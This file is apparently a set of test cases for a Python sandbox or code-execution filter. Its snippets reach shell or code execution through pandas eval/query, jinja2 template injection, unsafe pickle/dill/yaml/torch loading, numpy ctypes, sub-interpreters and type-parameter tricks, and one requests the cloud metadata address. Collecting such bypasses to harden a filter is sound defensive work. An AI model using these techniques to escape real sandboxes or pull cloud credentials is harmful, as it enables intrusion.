import pandas as pd
pd.DataFrame({"a": [1]}).to_pickle("x"); pd.io.pickle.pc.pickle.loads(b"")
# ---
class C[T: exec("print('hello')")]: pass
C.__type_params__[0].__bound__
# ---
from concurrent import interpreters
interpreters.create().exec("print('hello')")
# ---
import pandas as pd
df = pd.DataFrame({"a": [1]})
df.eval("@pd.compat.os.system('echo hello')")
# ---
import pandas as pd
pd.Series(["print('hello')"]).map(exec)
# ---
import pandas as pd
df = pd.DataFrame({"a": [1]})
df.query("@pd.io.common.os.system('echo hello')")
# ---
import dill
dill.loads(b"cos\nsystem\n(S'echo hello'\ntR.")
# ---
type X = __import__("os").system("echo hello")
X.__value__
# ---
f"{''.join(['\x65', 'x'])}{exec('print(\'hello\')')}"
# ---
print(f"{__import__("os").popen("echo hello").read()}")
# ---
f"{f"{eval("print('hello')")}"}"
# ---
from concurrent.futures import InterpreterPoolExecutor
InterpreterPoolExecutor().submit(print, "hello").result()
# ---
import _interpreters
i = _interpreters.create()
_interpreters.run_string(i, "print('hello')")
# ---
from IPython import get_ipython
get_ipython().system("echo hello")
# ---
from jinja2 import Template
Template("{{ cycler.__init__.__globals__.os.popen('echo hello').read() }}").render()
# ---
import joblib
joblib.load("x.pkl")
# ---
import sys
sys.monitoring.use_tool_id(0, "x")
sys.monitoring.register_callback(0, 1, lambda *a: print("hello"))
# ---
import matplotlib.pyplot as plt
plt.os.system("echo hello") if hasattr(plt, "os") else plt.sys.modules["os"].system("echo hello")
# ---
import matplotlib
matplotlib.cbook.subprocess.run(["echo", "hello"])
# ---
import numpy as np
np.vectorize(eval)(["print('hello')"])
# ---
import numpy as np
np.ctypeslib.ctypes.CDLL(None).system(b"echo hello")
# ---
from numpy.distutils import exec_command
exec_command.exec_command("echo hello")
# ---
import numpy as np
np.f2py.os.system("echo hello")
# ---
import numpy as np
np.frompyfunc(exec, 1, 1)(np.array(["print('hello')"], dtype=object))
# ---
import numpy as np
np.load("x.npy", allow_pickle=True)
# ---
import numpy
opts = dict(allow_pickle=True)
numpy.load("x.npy", **opts)
# ---
import numpy.testing as t
t.runstring("print('hello')", {})
# ---
import numexpr as ne
ne.evaluate("(lambda: 0).__globals__['os'].system('echo hello')")
# ---
import pandas as pd
pd.io.common.urlopen("http://example.org")
# ---
class C[T = eval("print('hello')")]: pass
C.__type_params__[0].__default__
# ---
import pandas as pd
pd.eval("@print('hello')", local_dict={})
# ---
import pandas as pd
pd.io.common.os.system("echo hello")
# ---
import pandas as pd
df = pd.DataFrame({"a": ["print('hello')"]})
df["a"].apply(eval)
# ---
import pandas as pd
pd.read_pickle("x.pkl")
# ---
import sys, os
sys.remote_exec(os.getpid(), "x.py")
# ---
import requests
requests.get("http://169.254.169.254/latest/meta-data/")
# ---
import scipy
scipy._lib._util.os.system("echo hello")
# ---
from sklearn.utils import _joblib
_joblib.joblib.load("x")
# ---
import sympy
sympy.sympify("__import__('os').system('echo hello')")
# ---
import sympy
x = sympy.Symbol("x")
sympy.lambdify(x, "__import__('os').system('echo hello')")(1)
# ---
from sympy.parsing.sympy_parser import parse_expr
parse_expr("print('hello')")
# ---
import torch
torch.load("m.pt", weights_only=False)
# ---
type X = eval("print('hello')")
X.__value__
# ---
def f[T: eval("print('hello')")](): pass
f.__type_params__[0].__bound__
# ---
type type = exec("print('hello')")
type.__value__
# ---
import yaml
yaml.load("!!python/object/apply:os.system ['echo hello']", Loader=yaml.Loader)
# ---
import yaml
yaml.unsafe_load("!!python/object/apply:os.system ['echo hello']")
